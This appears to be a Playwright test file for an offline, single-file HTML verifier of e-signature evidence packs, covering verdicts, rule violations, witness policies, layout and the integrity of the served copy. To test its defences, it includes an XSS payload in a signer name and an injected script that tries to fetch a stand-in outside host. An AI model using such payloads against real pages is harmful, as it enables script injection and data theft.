// The verifier as one HTML file: opened from disk in a browser without a network, it puts first what counts, keeps hostile
// names text, and the copy that the product serves carries the product's root. Each kind of case: verifier-cases.test.ts.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { expect } from '@playwright/test';
import { verifyOffline } from './judges/pack.ts';
import { built, chooseTrust, judge, openOffline, sha256, test } from './pages/verifier.ts';
import { fetchFile, finished, send, signatory, signByLink } from './product/contracts.ts';
import { dataDir, origin } from './product/origin.ts';
import { newPerson, register } from './product/people.ts';
import { phone } from './stage/chromium.ts';
import { barriers, overflow } from './stage/inspect.ts';

// one worker for the file: its cases cost six seconds of a processor to make
test.describe.configure({ mode: 'default' });

test('Z-11: what became of the contract stands first, and of a forged history which rule it breaks', async ({
  page,
  cases,
}) => {
  await openOffline(page);
  await chooseTrust(page, cases, 'own');
  const of = (wanted: (words: string) => boolean): string =>
    cases.all.find(({ trust, report }) => trust === 'own' && wanted(JSON.stringify(report)))!.file;
  await judge(page, cases.at(of((words) => words.includes('"state":"已作废'))));
  await expect(page.locator('.verdict h2')).toHaveText('结论：有效，但有需要注意之处');
  await expect(page.locator('.report dt').nth(1)).toHaveText('合同状态');
  await expect(page.locator('.report dd').nth(1)).toContainText('已作废（各方签署作废协议，');
  await expect(page.locator('.warnings li').first()).toContainText('合同已作废');
  await page.getByRole('button', { name: 'English' }).click();
  await expect(page.locator('.report dd').nth(1)).toContainText('voided (voiding agreement signed by all, ');
  await page.getByRole('button', { name: '中文' }).click();
  for (const rule of ['R1', 'R2', 'R3', 'R4', 'R5', 'R6', 'S1', 'S2', 'S3', 'S4']) {
    await page.getByRole('button', { name: '核验另一个文件' }).click();
    await judge(page, cases.at(of((words) => words.includes(`（规则 ${rule}）`))));
    await expect(page.locator('.verdict h2')).toHaveText('结论：无效');
    await expect(page.locator('.claims.refuted')).toContainText(`（规则 ${rule}）`);
  }
});

test('D-05: beside what the reader got before, a pack agrees or is refuted', async ({ page, cases }) => {
  await openOffline(page);
  await chooseTrust(page, cases, 'own');
  await page.locator('#earlier-file').setInputFiles(cases.at('grown.tlog-proof'));
  await expect(page.locator('#earlier-state')).toContainText('grown.tlog-proof');
  const agreed = await judge(page, cases.at('grown-late.evidence.zip'));
  expect(agreed.earlier).toBe('grown.tlog-proof');
  await expect(page.locator('.claims.proved')).toContainText('与签署回执相符：');
  await page.locator('#earlier-file').setInputFiles(cases.at('grown-late.evidence.zip'));
  await page.getByRole('button', { name: '核验另一个文件' }).click();
  await judge(page, cases.at('grown-forked.evidence.zip'));
  await expect(page.locator('.verdict h2')).toHaveText('结论：无效');
  await expect(page.locator('.claims.refuted')).toContainText('（规则 K4）');
  await page.getByRole('button', { name: '不再核对' }).click();
  await expect(page.locator('.claims.refuted')).toHaveCount(0);
  await expect(page.locator('#earlier-state')).toContainText('未选择');
});

test('D-06: a receipt alone is judged for what it is, and is no contract', async ({ page, cases }) => {
  await openOffline(page);
  await chooseTrust(page, cases, 'own');
  await judge(page, cases.at('grown.tlog-proof'));
  await expect(page.locator('.verdict h2')).toHaveText('结论：有效，但有需要注意之处');
  await expect(page.locator('.report dd').first()).toHaveText('签署回执（一次签署确认，不是合同）');
  await expect(page.locator('.warnings li').first()).toContainText('它不是合同，也不说明合同是否完成');
  await expect(page.locator('.claims.proved')).toContainText('姓名“');
  await expect(page.locator('.report dt').getByText('合同状态')).toHaveCount(0);
  await page.getByRole('button', { name: 'English' }).click();
  await expect(page.locator('.warnings li').first()).toContainText('It is no contract');
  await expect(page.locator('.report [lang="zh-CN"]')).toHaveCount(0);
});

test('contract, log and root come first; another root judges again; English; nothing hostile is markup', async ({
  page,
  cases,
}) => {
  const complaints = await openOffline(page);
  await chooseTrust(page, cases, 'own');
  await page.locator('#file').setInputFiles(cases.at('sound.evidence.zip'));
  await expect(page.locator('.verdict h2')).toBeFocused();
  const fingerprint = sha256(
    Buffer.from(readFileSync(cases.at('own.pem'), 'utf8').replace(/-----.*-----|\s/g, ''), 'base64'),
  );
  await expect(page.locator('.report dd')).toContainText([
    'XQ202606010001',
    'xinqi.test/log/2026',
    fingerprint,
  ]);
  await expect(page.locator('.verdict h2')).toHaveText('结论：有效');
  await expect(page.locator('.claims.proved')).toContainText('每个事件都在日志检查点之内');
  await expect(page.locator('.claims.refuted')).toHaveCount(0);
  await expect(page.locator('.signatures tbody tr')).toHaveCount(2);
  await expect(page.locator('.signatures')).toContainText('测试证书');
  expect(await barriers(page)).toEqual([]);

  await page.getByRole('button', { name: 'English' }).click();
  await expect(page.locator('.verdict h2')).toHaveText('Verdict: Valid');
  await expect(page.locator('.claims.proved')).toContainText(
    'Every event is under the checkpoint of the log',
  );
  // What is left in Chinese is a name.
  await expect(page.locator('.claims [lang="zh-CN"]')).toHaveText([/^信契测试时间戳 [0-9: -]+ \(UTC\+8\)$/]);
  await page.getByRole('button', { name: '中文' }).click();

  await chooseTrust(page, cases, 'stranger');
  await expect(page.locator('.verdict h2')).toHaveText('结论：无法核验');
  await expect(page.locator('.report')).toContainText('文件自称，未经证明');
  await page.locator('#trust-file').setInputFiles(cases.at('words.txt'));
  await expect(page.getByRole('alert')).toContainText('不是有效的 PEM');

  await chooseTrust(page, cases, 'own');
  await page.getByRole('button', { name: '核验另一个文件' }).click();
  await judge(page, cases.at('hostile.pdf'));
  const signer = page.locator('.signatures td').nth(2);
  await expect(signer).toContainText('<img src=x onerror=alert(1)>\ufffdfdp.exe');
  expect(await page.locator('img, .report b').count()).toBe(0);
  await judge(page, cases.at('changed-events.ndjson.evidence.zip'));
  await expect(page.locator('.claims.refuted h3')).toBeVisible();
  expect(await barriers(page)).toEqual([]);
  expect(complaints).toEqual([]);
});

test('D-05: under the policy of one honest witness the fork of a log is refuted, and nothing is without', async ({
  page,
  cases,
}) => {
  const complaints = await openOffline(page);
  await chooseTrust(page, cases, 'forked');
  expect((await judge(page, cases.at('other.zip'))).witness).toBeNull();
  await expect(page.locator('.verdict h2')).toHaveText('结论：有效');

  await page.locator('#witness-file').setInputFiles(cases.at('no-policy'));
  await expect(page.getByRole('alert')).toHaveText('不是见证策略： no-policy');
  await page.locator('#witness-file').setInputFiles(cases.at('policy'));
  await expect(page.getByRole('alert')).toHaveCount(0);
  await expect(page.locator('#witness')).toContainText('policy');
  await expect(page.locator('#witness li')).toContainText('notary（');
  // what had been judged is judged again
  await expect(page.locator('.verdict h2')).toHaveText('结论：无效');
  await expect(page.locator('.claims.refuted')).toContainText('（规则 C5）');
  expect((await judge(page, cases.at('shown.zip'))).witness).toBe('policy');
  await expect(page.locator('.verdict h2')).toHaveText('结论：有效');
  await expect(page.locator('.claims.proved')).toContainText('见过这一日志的无关方 1 家');
  await expect(page.locator('.report dd')).toContainText(['policy']);
  await page.getByRole('button', { name: 'English' }).click();
  await expect(page.locator('#witness')).toContainText('Policy of your choice');
  expect(await barriers(page)).toEqual([]);
  expect(complaints).toEqual([]);
});

test('the policy of the page lets nothing out, even for a script inside it', async ({ page, cases }) => {
  writeFileSync(cases.at('control.html'), '<!doctype html><title>no policy</title>');
  await page.route('https://outside.example/**', (route) =>
    route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'reached' }),
  );
  /** Whether a page from disk can reach an address, and whether a script put into it runs. */
  const tries = async (file: string) => {
    await page.goto(pathToFileURL(file).href);
    return page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.planted = true';
      document.body.append(script);
      const reached = await fetch('https://outside.example/?data').then(
        () => true,
        () => false,
      );
      return { reached, planted: 'planted' in window };
    });
  };
  expect(await tries(cases.at('control.html'))).toEqual({ reached: true, planted: true });
  expect(await tries(built)).toEqual({ reached: false, planted: false });
  const policy = await page.locator('meta[http-equiv]').getAttribute('content');
  expect(policy).toMatch(
    /^default-src 'none'; script-src 'sha256-[^']+'; style-src 'sha256-[^']+'; img-src data:/,
  );
});

test('a dropped file is judged, also where the browser refuses workers; a dropped PEM becomes the root', async ({
  page,
  cases,
}) => {
  await page.addInitScript(() => {
    window.Worker = class {
      constructor() {
        throw new DOMException('refused', 'SecurityError');
      }
    } as unknown as typeof Worker;
  });
  const complaints = await openOffline(page);
  const drop = async (name: string): Promise<void> => {
    const transfer = await page.evaluateHandle(
      ({ name, base64 }) => {
        const held = new DataTransfer();
        held.items.add(new File([Uint8Array.from(atob(base64), (c) => c.charCodeAt(0))], name));
        return held;
      },
      { name, base64: readFileSync(cases.at(name)).toString('base64') },
    );
    await page.locator('#drop').dispatchEvent('drop', { dataTransfer: transfer });
  };
  await drop('sound.evidence.zip');
  await expect(page.locator('.verdict h2')).toHaveText('结论：无法核验');
  await drop('own.pem');
  await expect(page.locator('.verdict h2')).toHaveText('结论：有效');
  expect(page.workers()).toHaveLength(0);
  expect(complaints).toEqual([]);
});

test('on a phone and on paper', async ({ browser, cases }) => {
  const context = await browser.newContext(phone);
  const page = await context.newPage();
  await openOffline(page);
  expect(await overflow(page)).toEqual([]);
  await chooseTrust(page, cases, 'own');
  await page.locator('#file').setInputFiles(cases.at('sound.evidence.zip'));
  await expect(page.locator('.verdict h2')).toHaveText('结论：有效');
  expect(await overflow(page)).toEqual([]);
  await page.emulateMedia({ media: 'print' });
  await expect(page.locator('.about')).toContainText('sound.evidence.zip');
  await expect(page.locator('.about')).toContainText(sha256(readFileSync(cases.at('sound.evidence.zip'))));
  for (const gone of ['#drop', '#actions', '#trust-state', '#language'])
    await expect(page.locator(gone)).toBeHidden();
  await context.close();
});

test('the copy that the product serves has its published hash and judges a contract of the product offline', async ({
  stage,
  page,
  pdf,
  cases,
}) => {
  const visitor = await stage.open('desktop');
  await visitor.goto('/certi/toValiView');
  const link = visitor.getByRole('link', { name: '下载离线核验页' });
  const [download] = await Promise.all([visitor.waitForEvent('download'), link.click()]);
  const copy = cases.at('verifier.html');
  await download.saveAs(copy);
  const published = await (await fetch(`${origin()}/certi/verifier.html.sha256`)).text();
  expect(published).toBe(`${sha256(readFileSync(copy))}  verifier.html\n`);

  const sender = await register(newPerson('周静'));
  const signer = newPerson('吴磊');
  const sent = await send(sender, await pdf('离线核验', 2), '离线核验合同', [signatory(signer, 0)]);
  await signByLink(signer, sent.title);
  await finished(sender, sent.applyNo);
  const pack = await fetchFile(sender, sent.applyNo, 'pack');
  writeFileSync(cases.at('product.evidence.zip'), pack);

  const complaints = await openOffline(page, copy);
  await expect(page.locator('#trust-state')).toContainText('本页附带的根证书');
  const { trust, sheet, ...said } = await judge(page, cases.at('product.evidence.zip'));
  const { exit, ...command } = verifyOffline(cases.at('product.evidence.zip'), join(dataDir(), 'trust.pem'));
  expect(exit).toBe(0);
  expect({ ...said, trust: null }).toEqual({ ...command, trust: null });
  expect(said).toMatchObject({ contract: sent.applyNo });
  expect(trust).not.toBeNull();
  expect(sheet.sha256).toBe(sha256(pack));
  expect(complaints).toEqual([]);
});

test('the served page says that plain http is not enough, and works where the browser trusts the address', async ({
  stage,
  cases,
}) => {
  const page = await stage.open('desktop');
  const answer = await page.goto('/certi/verifier.html');
  expect(answer?.headers()['content-security-policy']).toContain("default-src 'none'");
  await page.locator('#trust-file').setInputFiles(cases.at('own.pem'));
  await page.locator('#file').setInputFiles(cases.at('sound.pdf'));
  await expect(page.locator('.verdict h2')).toHaveText('结论：有效');

  const lan = await stage.open('desktop');
  await lan.addInitScript(() => Object.defineProperty(Crypto.prototype, 'subtle', { value: undefined }));
  await lan.goto('/certi/verifier.html');
  await expect(lan.getByRole('alert')).toContainText('保存到磁盘后双击打开');
  await expect(lan.locator('#tool')).toBeHidden();
});
